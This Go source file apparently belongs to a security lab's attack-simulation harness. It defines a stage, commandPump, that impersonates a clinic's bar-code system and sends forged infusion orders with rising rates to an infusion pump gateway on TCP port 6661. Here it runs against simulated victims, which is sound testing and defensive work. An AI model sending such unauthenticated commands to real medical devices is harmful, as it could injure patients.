package attack

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/cordonhq/cordon/internal/lab/sim"
)

// commandPump gives orders that only the clinic's bar-code system may give:
// to the pump gateway, which believes everybody, and to the pump itself.
func commandPump(ctx context.Context, s *stage) error {
	const port, orders = 6661, 10
	pace := max(s.duration/orders, 100*time.Millisecond)
	for _, victim := range s.scenario.Victims {
		name := "order a rate from " + victim
		err := s.step(ctx, name, []Selector{s.to(victim, "tcp", port)}, func(ctx context.Context) (string, error) {
			ctx, cancel := s.bounded(ctx)
			defer cancel()
			sender := sim.NewSender(s.env(s.at, s.label.Attacker.IP), fmt.Sprintf("%s:%d", ipOf(victim), port))
			defer sender.Close()
			accepted := 0
			for n := range orders {
				err := sender.Send(ctx, infusionOrder(n+1, sim.InBed(4), "PUMP4^^0003B1FFFE770034^EUI-64", 250+50*float64(n), time.Now()))
				if ctx.Err() != nil {
					break
				}
				if err != nil {
					return fmt.Sprintf("%d orders accepted", accepted), err
				}
				accepted++
				pause(ctx, pace)
			}
			if accepted == 0 {
				return "", errors.New("no order was accepted")
			}
			return fmt.Sprintf("%d orders accepted", accepted), nil
		})
		if err != nil {
			return err
		}
	}
	return nil
}
